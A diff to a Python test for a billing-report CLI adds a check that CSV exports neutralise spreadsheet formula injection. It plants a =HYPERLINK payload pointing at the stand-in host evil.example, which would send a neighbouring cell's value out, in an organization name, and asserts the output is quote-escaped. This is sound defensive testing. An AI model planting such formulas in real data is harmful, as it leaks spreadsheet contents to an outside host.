@@ -114,8 +114,14 @@ async def test_billing_report_cli_json_and_csv(api, flow, world, settings, runti
     assert report["total_billable_users"] == 1
     assert report["organizations"][0]["organization_id"] == world.org.id
     assert report["organizations"][0]["users"][0]["email"] == "doc@example.com"
+    # A clinic's name is a partner's choice (POST /v1/invitations): a spreadsheet opening the CSV
+    # must not run it as a formula (it was written as sent).
+    from models.directory import Organization
+    Organization.update(name='=HYPERLINK("https://evil.example/?"&A2,"Open")').where(
+        Organization.id == world.org.id).execute()
     rows = list(csv.reader(io.StringIO(cli("billing", "report", "--month", month, "--format", "csv"))))
     assert rows[0][:3] == ["month", "application_id", "organization_id"] and len(rows) == 2
+    assert rows[1][3] == '\'=HYPERLINK("https://evil.example/?"&A2,"Open")', rows[1]
     assert json.loads(cli("billing", "report", "--month", "1999-01"))["total_billable_users"] == 0
     cli("billing", "report", "--month", "2026-13", expect=2)
 
